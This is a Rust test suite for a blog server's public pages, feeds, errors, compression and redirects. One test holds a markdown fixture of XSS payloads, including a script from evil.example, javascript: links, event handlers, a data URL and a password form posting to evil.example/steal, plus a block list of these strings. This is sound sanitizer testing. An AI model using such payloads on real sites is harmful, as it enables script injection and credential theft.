//! The public site as a reader meets it with JavaScript off: home, post, author and tag
//! pages, their errors, and what every page promises (semantic HTML, metadata, feeds, no
//! script but post pages' deferred Edit-link script, nothing loaded from another origin,
//! compressed answers that decode to the page).

use std::io::Read;

use crate::support::{
    BASE_URL, Reply, TestApp, attr, backends, dangers, loaded_urls, select, text_of,
};
use axum::http::StatusCode;
use chorus::domain::Role;
use url::Url;

/// What every full page of the site must be: checked on home, post, author and tag pages.
pub fn check_page(page: &Reply, path: &str) {
    assert_eq!(page.status, StatusCode::OK, "{path}");
    assert!(
        page.content_type().starts_with("text/html"),
        "{path}: {}",
        page.content_type()
    );
    let html = page.html();
    let base = Url::parse(BASE_URL).unwrap();

    assert_eq!(select(&html, "h1").len(), 1, "{path}: exactly one h1");
    assert!(
        attr(&html, "html", "lang").is_some_and(|l| !l.is_empty()),
        "{path}: html[lang]"
    );
    for landmark in ["header", "main", "footer", "nav"] {
        assert!(
            !select(&html, landmark).is_empty(),
            "{path}: no <{landmark}>"
        );
    }
    assert_eq!(select(&html, "main").len(), 1, "{path}: one <main>");
    assert!(
        text_of(&html, "title").is_some_and(|t| !t.is_empty()),
        "{path}: <title>"
    );

    let canonical = attr(&html, "link[rel='canonical']", "href")
        .unwrap_or_else(|| panic!("{path}: no canonical link"));
    assert_eq!(
        canonical,
        base.join(path).unwrap().as_str(),
        "{path}: canonical"
    );
    for property in ["og:title", "og:description", "og:type", "og:url"] {
        let sel = format!("meta[property='{property}']");
        assert!(
            attr(&html, &sel, "content").is_some_and(|c| !c.is_empty()),
            "{path}: {property}"
        );
    }
    assert!(
        attr(&html, "meta[name='twitter:card']", "content").is_some(),
        "{path}: twitter:card"
    );

    let feed_types: Vec<String> = select(&html, "link[rel='alternate']")
        .iter()
        .filter_map(|l| l.value().attr("type"))
        .map(str::to_owned)
        .collect();
    for media_type in [
        "application/rss+xml",
        "application/atom+xml",
        "application/feed+json",
    ] {
        assert!(
            feed_types.iter().any(|t| t == media_type),
            "{path}: no {media_type} link: {feed_types:?}"
        );
    }

    // The only scripts are the site's own optional ones: files from `/static/`, deferred,
    // with no inline code.
    assert_eq!(
        page.text().to_lowercase().matches("<script").count(),
        select(&html, "script[src^='/static/'][defer]").len(),
        "{path}: a script that is not the site's own"
    );
    let dangers: Vec<String> = dangers(&html)
        .into_iter()
        .filter(|d| d != "<script> element")
        .collect();
    assert_eq!(dangers, Vec::<String>::new(), "{path}: unsafe markup");
    for url in loaded_urls(&html, &base) {
        assert_eq!(
            url.origin(),
            base.origin(),
            "{path}: loads {url} from another origin"
        );
    }
    for img in select(&html, "img") {
        assert!(
            img.value().attr("alt").is_some(),
            "{path}: an image without alt text"
        );
    }

    let csp = page.header("content-security-policy");
    assert!(csp.contains("default-src 'none'"), "{path}: CSP {csp:?}");
    assert!(
        !csp.contains("unsafe-inline") && !csp.contains("unsafe-eval"),
        "{path}: CSP {csp:?}"
    );
    assert!(
        page.header("vary")
            .to_lowercase()
            .contains("accept-encoding"),
        "{path}: Vary {:?}",
        page.header("vary")
    );
}

/// The titles a listing page (home, author, tag) shows, in its order.
fn titles(page: &Reply) -> Vec<String> {
    select(&page.html(), "li.h-entry .p-name")
        .iter()
        .map(|e| e.text().collect::<String>())
        .collect()
}

fn dated(title: &str, day: u32, tags: &str, body: &str) -> String {
    format!(
        "---\ntitle: {title}\ntags: [{tags}]\npublished: 2025-01-{day:02}T12:00:00Z\n---\n{body}\n"
    )
}

const RICH_POST: &str = r#"---
title: Writing a parser in Rust
tags: [rust, parsing]
summary: A walk through a small recursive-descent parser.
---
We build a small parser, step by step.

## The grammar

| rule | meaning |
|------|---------|
| expr | a sum   |

- [x] tokens
- [ ] errors

```rust
fn main() {
    let answer = 42;
    println!("{answer}");
}
```

See [the earlier post](/posts/other) and the diagram: ![A diagram of the parser](/static/favicon.svg)

A remote picture stays a link: ![a cat](https://cdn.other.example/cat.png)

Footnotes work too.[^1]

[^1]: Like this one.
"#;

#[tokio::test]
async fn the_home_page_lists_posts_newest_first_and_paginates() {
    for backend in backends() {
        let site = TestApp::with_author(backend, "alice").await;
        let empty = site.get("/").await;
        check_page(&empty, "/");
        assert!(select(&empty.html(), "li.h-entry").is_empty());

        for day in 1..=12 {
            site.publish(
                "alice",
                &dated(&format!("Post number {day}"), day, "rust", "Text."),
            )
            .await
            .unwrap();
        }
        let first = site.get("/").await;
        check_page(&first, "/");
        let expected: Vec<String> = (3..=12).rev().map(|d| format!("Post number {d}")).collect();
        assert_eq!(
            titles(&first),
            expected,
            "{backend:?}: newest first, ten to a page"
        );
        let html = first.html();
        assert_eq!(
            attr(&html, "a[rel='next']", "href").as_deref(),
            Some("/?page=2"),
            "{backend:?}"
        );
        assert!(select(&html, "a[rel='prev']").is_empty(), "{backend:?}");

        let second = site.get("/?page=2").await;
        check_page(&second, "/?page=2");
        assert_eq!(
            titles(&second),
            ["Post number 2", "Post number 1"],
            "{backend:?}"
        );
        let html = second.html();
        assert_eq!(
            attr(&html, "a[rel='prev']", "href").as_deref(),
            Some("/"),
            "{backend:?}"
        );
        assert!(select(&html, "a[rel='next']").is_empty(), "{backend:?}");

        for beyond in ["/?page=3", "/?page=0", "/?page=-1", "/?page=two"] {
            let page = site.get(beyond).await;
            assert_eq!(page.status, StatusCode::NOT_FOUND, "{backend:?}: {beyond}");
            assert!(
                page.content_type().starts_with("text/html"),
                "{backend:?}: {beyond}"
            );
        }
    }
}

#[tokio::test]
async fn a_post_page_is_semantic_self_contained_and_highlighted() {
    for backend in backends() {
        let site = TestApp::with_author(backend, "alice").await;
        let url = site.publish("alice", RICH_POST).await.unwrap();
        assert_eq!(
            url.as_str(),
            format!("{BASE_URL}/posts/writing-a-parser-in-rust")
        );
        let page = site.get(url.path()).await;
        check_page(&page, url.path());
        let html = page.html();

        assert_eq!(
            text_of(&html, "h1").as_deref(),
            Some("Writing a parser in Rust")
        );
        assert_eq!(
            attr(&html, "meta[property='og:type']", "content").as_deref(),
            Some("article")
        );
        assert_eq!(
            attr(&html, "meta[property='og:title']", "content").as_deref(),
            Some("Writing a parser in Rust")
        );
        assert_eq!(
            attr(&html, "meta[property='og:description']", "content").as_deref(),
            Some("A walk through a small recursive-descent parser.")
        );

        // Microformats: h-entry with its name, content, date and author card.
        assert_eq!(select(&html, "article.h-entry").len(), 1, "{backend:?}");
        assert_eq!(
            text_of(&html, ".h-entry .p-name").as_deref(),
            Some("Writing a parser in Rust")
        );
        assert!(
            text_of(&html, ".h-entry .e-content")
                .unwrap()
                .contains("We build a small parser")
        );
        let published =
            attr(&html, ".h-entry time.dt-published", "datetime").expect("dt-published");
        assert!(
            chrono::DateTime::parse_from_rfc3339(&published).is_ok(),
            "{published}"
        );
        assert_eq!(
            attr(&html, ".h-entry .p-author.h-card", "href").as_deref(),
            Some(&*format!("{BASE_URL}/@alice"))
        );
        let tags: Vec<String> = select(&html, ".h-entry a[rel=tag] .p-category")
            .iter()
            .map(|a| a.text().collect::<String>())
            .collect();
        assert_eq!(tags, ["#rust", "#parsing"]);

        // Feeds of the author and of the site are both offered.
        let alternates: Vec<String> = select(&html, "link[rel='alternate']")
            .iter()
            .filter_map(|l| l.value().attr("href"))
            .map(str::to_owned)
            .collect();
        for feed in [
            "/@alice/feed.xml",
            "/@alice/atom.xml",
            "/@alice/feed.json",
            "/feed.xml",
            "/atom.xml",
            "/feed.json",
        ] {
            assert!(
                alternates.contains(&format!("{BASE_URL}{feed}")),
                "{backend:?}: {feed} not linked: {alternates:?}"
            );
        }

        // Code is highlighted on the server with classes, never inline styles.
        let spans = select(&html, ".e-content pre span[class]");
        assert!(
            !spans.is_empty(),
            "{backend:?}: no highlight spans in the code block"
        );
        let code: String = select(&html, ".e-content pre")
            .iter()
            .flat_map(|e| e.text())
            .collect();
        assert!(code.contains("let answer = 42;"), "{backend:?}: {code}");
        // GFM: table, task list, heading anchor, footnote.
        assert_eq!(select(&html, ".e-content table").len(), 1);
        assert_eq!(select(&html, ".e-content input[type='checkbox']").len(), 2);
        assert!(
            select(&html, ".e-content h2[id]")
                .iter()
                .any(|h| h.value().attr("id") == Some("the-grammar"))
        );
        assert!(
            select(&html, ".e-content a[href]").iter().any(|a| a
                .value()
                .attr("href")
                .unwrap()
                .contains("#fn"))
        );
        // The local image is shown; the remote one became a plain link.
        assert_eq!(
            attr(&html, ".e-content img", "alt").as_deref(),
            Some("A diagram of the parser")
        );
        assert!(
            select(
                &html,
                ".e-content a[href='https://cdn.other.example/cat.png']"
            )
            .len()
                == 1
        );

        // No byline until the author sets a fediverse handle.
        assert!(
            select(&html, "meta[name='fediverse:creator']").is_empty(),
            "{backend:?}"
        );
        site.set_fediverse_creator("alice", "@alice@mastodon.example")
            .await;
        let html = site.get(url.path()).await.html();
        assert_eq!(
            attr(&html, "meta[name='fediverse:creator']", "content").as_deref(),
            Some("@alice@mastodon.example"),
            "{backend:?}"
        );
    }
}

#[tokio::test]
async fn every_linked_feed_and_stylesheet_answers_with_its_type() {
    for backend in backends() {
        let site = TestApp::with_author(backend, "alice").await;
        let url = site.publish("alice", RICH_POST).await.unwrap();
        for path in ["/", url.path(), "/@alice", "/tags/rust"] {
            let html = site.get(path).await.html();
            for link in select(
                &html,
                "link[rel='alternate'], link[rel='stylesheet'], link[rel='icon']",
            ) {
                let href = Url::parse(BASE_URL)
                    .unwrap()
                    .join(link.value().attr("href").unwrap())
                    .unwrap();
                // Ask for the type the link announces, as a client following it would.
                let accept = link.value().attr("type").unwrap_or("*/*");
                let target = site
                    .get_with(&href[url::Position::BeforePath..], &[("accept", accept)])
                    .await;
                assert_eq!(
                    target.status,
                    StatusCode::OK,
                    "{backend:?}: {path} links {href}"
                );
                if let Some(media_type) = link.value().attr("type") {
                    assert!(
                        target.content_type().starts_with(media_type),
                        "{backend:?}: {href} is {}",
                        target.content_type()
                    );
                }
                if link.value().attr("rel") == Some("stylesheet") {
                    assert!(target.content_type().starts_with("text/css"), "{backend:?}");
                    let css = target.text();
                    assert!(
                        css.contains("prefers-color-scheme: dark"),
                        "{backend:?}: no dark scheme"
                    );
                    assert!(
                        !css.contains("@import")
                            && !css.contains("url(http")
                            && !css.contains("url(//")
                    );
                }
            }
        }
    }
}

#[tokio::test]
async fn author_and_tag_pages() {
    for backend in backends() {
        let site = TestApp::with_author(backend, "alice").await;
        site.create_user("bob", Role::Author).await;
        site.publish("alice", &dated("Alice on Rust", 1, "rust", "Text."))
            .await
            .unwrap();
        site.publish("alice", &dated("Alice on the web", 2, "web", "Text."))
            .await
            .unwrap();
        site.publish("bob", &dated("Bob on Rust", 3, "rust", "Text."))
            .await
            .unwrap();
        let author = site.get("/@alice").await;
        check_page(&author, "/@alice");
        let html = author.html();
        assert_eq!(
            select(&html, ".h-card .p-name")
                .first()
                .map(|e| e.text().collect::<String>())
                .as_deref(),
            Some("alice")
        );
        assert_eq!(
            text_of(&html, ".h-card .p-nickname").as_deref(),
            Some("@alice@community.example"),
            "{backend:?}"
        );
        assert_eq!(
            attr(&html, ".h-card a.u-url", "href").as_deref(),
            Some(&*format!("{BASE_URL}/@alice"))
        );
        assert_eq!(
            titles(&author),
            ["Alice on the web", "Alice on Rust"],
            "{backend:?}"
        );
        assert_eq!(
            attr(&html, "meta[property='og:type']", "content").as_deref(),
            Some("profile")
        );
        let feeds: Vec<&str> = select(&html, "link[rel='alternate']")
            .iter()
            .filter_map(|l| l.value().attr("href"))
            .collect();
        assert!(
            feeds.contains(&&*format!("{BASE_URL}/@alice/atom.xml")),
            "{backend:?}: {feeds:?}"
        );

        let tag = site.get("/tags/rust").await;
        check_page(&tag, "/tags/rust");
        assert_eq!(
            titles(&tag),
            ["Bob on Rust", "Alice on Rust"],
            "{backend:?}"
        );
        assert_eq!(text_of(&tag.html(), "h1").as_deref(), Some("#rust"));
        let feeds: Vec<String> = select(&tag.html(), "link[rel='alternate']")
            .iter()
            .filter_map(|l| l.value().attr("href"))
            .map(str::to_owned)
            .collect();
        assert!(
            feeds.contains(&format!("{BASE_URL}/tags/rust/feed.json")),
            "{backend:?}: {feeds:?}"
        );
        // A hashtag is case-insensitive, as on Mastodon.
        assert_eq!(
            titles(&site.get("/tags/Rust").await),
            ["Bob on Rust", "Alice on Rust"],
            "{backend:?}"
        );
    }
}

#[tokio::test]
async fn missing_deleted_and_unpublished_posts() {
    for backend in backends() {
        let site = TestApp::with_author(backend, "alice").await;
        let kept = site.publish_post("alice", "Kept", "Stays.").await;
        let doomed = site
            .publish("alice", &dated("Doomed", 2, "rust", "Goes away."))
            .await
            .unwrap();
        site.publish(
            "alice",
            "---\ntitle: A draft\ndraft: true\ntags: [drafts]\n---\nNot yet.\n",
        )
        .await
        .unwrap();
        site.publish(
            "alice",
            "---\ntitle: Later\npublished: 2999-01-01\ntags: [later]\n---\nNot yet.\n",
        )
        .await
        .unwrap();
        assert_eq!(site.get(doomed.path()).await.status, StatusCode::OK);
        site.delete(doomed.as_str()).await.unwrap();

        let gone = site.get(doomed.path()).await;
        assert_eq!(gone.status, StatusCode::GONE, "{backend:?}");
        assert!(gone.content_type().starts_with("text/html"), "{backend:?}");
        let html = gone.html();
        assert_eq!(select(&html, "h1").len(), 1);
        assert!(
            text_of(&html, "h1")
                .unwrap()
                .to_lowercase()
                .contains("deleted"),
            "{backend:?}"
        );
        assert!(
            !gone.text().contains("Goes away"),
            "{backend:?}: the deleted text is still shown"
        );
        assert!(
            !site.get("/").await.text().contains("Doomed"),
            "{backend:?}"
        );
        assert!(
            !site.get("/feed.xml").await.text().contains("Doomed"),
            "{backend:?}"
        );
        assert_eq!(
            site.get("/tags/rust").await.status,
            StatusCode::NOT_FOUND,
            "{backend:?}: the tag has no posts left"
        );

        for path in [
            "/posts/never-written",
            "/posts/a-draft",
            "/posts/later",
            "/@nobody",
            "/nobody",
            "/@no-such-user!",
            "/tags/nothing",
            "/tags/drafts",
            "/tags/later",
            "/no/such/page",
            "/static/nothing.css",
        ] {
            let page = site.get(path).await;
            assert_eq!(page.status, StatusCode::NOT_FOUND, "{backend:?}: {path}");
            if !path.starts_with("/static/") {
                assert!(
                    page.content_type().starts_with("text/html"),
                    "{backend:?}: {path}: {}",
                    page.content_type()
                );
                let html = page.html();
                assert_eq!(select(&html, "h1").len(), 1, "{backend:?}: {path}");
                assert!(attr(&html, "html", "lang").is_some(), "{backend:?}: {path}");
                assert!(dangers(&html).is_empty(), "{backend:?}: {path}");
            }
        }
        assert_eq!(
            site.get(kept.path()).await.status,
            StatusCode::OK,
            "{backend:?}"
        );
    }
}

#[tokio::test]
async fn hostile_markdown_renders_harmless_on_pages_and_in_feeds() {
    let hostile = r#"---
title: Totally normal post
tags: [rust]
---
Hello <script>alert("page")</script> there.

<script src="https://evil.example/x.js"></script>

[click me](javascript:alert(1)) and [again](JaVaScRiPt:alert(2)) and [spaced]( javascript:alert(3))

<img src="/static/favicon.svg" alt="x" onerror="alert(4)"> <a href="/" onclick="alert(5)" style="color:red">styled</a>

<iframe src="https://evil.example/frame"></iframe>

<div style="position:fixed;top:0" onmouseover="alert(6)">overlay</div>

<svg onload="alert(7)"><circle r="1"/></svg>

<form action="https://evil.example/steal"><input type="password" name="p"></form>

<a href="data:text/html,<script>alert(8)</script>">data</a>

<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
"#;
    for backend in backends() {
        let site = TestApp::with_author(backend, "mallory").await;
        let url = site.publish("mallory", hostile).await.unwrap();
        let page = site.get(url.path()).await;
        check_page(&page, url.path());
        let html = page.html();
        assert!(
            text_of(&html, ".e-content").unwrap().contains("Hello"),
            "{backend:?}: the harmless text stays"
        );
        let lower = page.text().to_lowercase();
        for bad in [
            "javascript:",
            "evil.example",
            "alert(",
            "data:text/html",
            "<svg",
            "type=\"password\"",
        ] {
            let at = lower
                .find(bad)
                .map(|i| &lower[i.saturating_sub(200)..(i + 100).min(lower.len())]);
            assert!(
                at.is_none(),
                "{backend:?}: {bad:?} survived on the page: {at:?}"
            );
        }

        for feed in [
            "/feed.xml",
            "/atom.xml",
            "/feed.json",
            "/@mallory/feed.xml",
            "/tags/rust/atom.xml",
        ] {
            let reply = site.get(feed).await;
            assert_eq!(reply.status, StatusCode::OK, "{backend:?}: {feed}");
            let parsed =
                feed_rs::parser::parse(&reply.body[..]).unwrap_or_else(|e| panic!("{feed}: {e}"));
            let content = parsed.entries[0]
                .content
                .as_ref()
                .and_then(|c| c.body.clone())
                .expect("full content");
            let fragment = scraper::Html::parse_fragment(&content);
            assert_eq!(
                dangers(&fragment),
                Vec::<String>::new(),
                "{backend:?}: {feed}"
            );
            let lower = content.to_lowercase();
            for bad in [
                "<script",
                "javascript:",
                "evil.example",
                "alert(",
                "<iframe",
                "onerror",
                "onclick",
                "style=",
            ] {
                assert!(
                    !lower.contains(bad),
                    "{backend:?}: {bad:?} survived in {feed}"
                );
            }
        }
    }
}

#[tokio::test]
async fn answers_are_compressed_once_and_decode_to_the_same_page() {
    for backend in backends() {
        let site = TestApp::with_author(backend, "alice").await;
        let url = site.publish("alice", RICH_POST).await.unwrap();
        for path in [url.path(), "/", "/feed.xml", "/@alice/feed.json"] {
            let plain = site.get(path).await;
            assert_eq!(plain.status, StatusCode::OK);
            assert_eq!(
                plain.header("content-encoding"),
                "",
                "{path}: identity unless asked"
            );

            let br = site
                .get_with(path, &[("accept-encoding", "gzip, deflate, br")])
                .await;
            assert_eq!(br.header("content-encoding"), "br", "{backend:?}: {path}");
            let mut decoded = Vec::new();
            brotli::Decompressor::new(&br.body[..], 4096)
                .read_to_end(&mut decoded)
                .expect("valid brotli");
            assert_eq!(
                decoded,
                plain.body.to_vec(),
                "{backend:?}: {path}: brotli decodes to the page"
            );
            assert!(
                br.body.len() < plain.body.len(),
                "{path}: brotli is smaller"
            );

            let gz = site.get_with(path, &[("accept-encoding", "gzip")]).await;
            assert_eq!(gz.header("content-encoding"), "gzip", "{backend:?}: {path}");
            let mut decoded = Vec::new();
            flate2::read::GzDecoder::new(&gz.body[..])
                .read_to_end(&mut decoded)
                .expect("valid gzip");
            assert_eq!(
                decoded,
                plain.body.to_vec(),
                "{backend:?}: {path}: gzip decodes to the page"
            );

            let refused = site
                .get_with(path, &[("accept-encoding", "br;q=0, gzip")])
                .await;
            assert_eq!(
                refused.header("content-encoding"),
                "gzip",
                "{path}: q=0 refuses brotli"
            );
            for reply in [&plain, &br, &gz] {
                assert!(
                    reply
                        .header("vary")
                        .to_lowercase()
                        .contains("accept-encoding"),
                    "{path}"
                );
                assert_eq!(
                    reply.header("etag"),
                    plain.header("etag"),
                    "{path}: one ETag for every encoding"
                );
            }
        }
    }
}

#[tokio::test]
async fn an_update_shows_at_once_everywhere() {
    for backend in backends() {
        let site = TestApp::with_author(backend, "alice").await;
        let md =
            "---\ntitle: Release notes\nslug: release\ntags: [rust]\n---\nVersion one is out.\n";
        let url = site.publish("alice", md).await.unwrap();
        let paths = [
            url.path(),
            "/",
            "/@alice",
            "/tags/rust",
            "/feed.xml",
            "/@alice/atom.xml",
            "/tags/rust/feed.json",
        ];
        for path in paths {
            // Read each twice so that the cached copies are the ones answered.
            site.get(path).await;
            let page = site.get(path).await;
            assert!(page.text().contains("Release notes"), "{backend:?}: {path}");
        }
        let updated = md
            .replace("Release notes", "Release notes, revised")
            .replace("Version one", "Version two");
        assert_eq!(site.publish("alice", &updated).await.unwrap(), url);
        for path in paths {
            let page = site.get(path).await;
            assert!(
                page.text().contains("Release notes, revised"),
                "{backend:?}: {path} is stale after the update"
            );
        }
        let post = site.get(url.path()).await.text();
        assert!(
            post.contains("Version two") && !post.contains("Version one"),
            "{backend:?}"
        );
        assert_eq!(site.count("posts").await, 1, "{backend:?}");
    }
}

#[tokio::test]
async fn health_check() {
    for backend in backends() {
        let site = TestApp::new(backend).await;
        let health = site.get("/healthz").await;
        assert_eq!(health.status, StatusCode::OK, "{backend:?}");
        // Closing the pool is what a lost database looks like to the server.
        site.app.db.close().await;
        let health = site.get("/healthz").await;
        assert_eq!(
            health.status,
            StatusCode::SERVICE_UNAVAILABLE,
            "{backend:?}"
        );
    }
}

#[tokio::test]
async fn non_canonical_addresses_redirect_to_the_canonical_one() {
    for backend in backends() {
        let site = TestApp::with_author(backend, "alice").await;
        let post = site
            .publish("alice", "---\ntitle: Tagged\ntags: [rust]\n---\nText.\n")
            .await
            .unwrap();
        for (asked, canonical) in [
            ("/tags/rust/", "/tags/rust"),
            (&format!("{}/", post.path()), post.path()),
            ("/@alice/", "/@alice"),
            ("/tags/rust/?page=1", "/tags/rust?page=1"),
            // Never off the site, however the path is written.
            ("//evil.example/", "/evil.example"),
        ] {
            let r = site.get(asked).await;
            assert_eq!(
                r.status,
                StatusCode::PERMANENT_REDIRECT,
                "{backend:?}: {asked}"
            );
            assert_eq!(r.header("location"), canonical, "{backend:?}: {asked}");
        }
        assert_eq!(site.get("/tags/rust").await.status, StatusCode::OK);
        assert_eq!(
            site.get("/no-such-page").await.status,
            StatusCode::NOT_FOUND
        );
    }
}
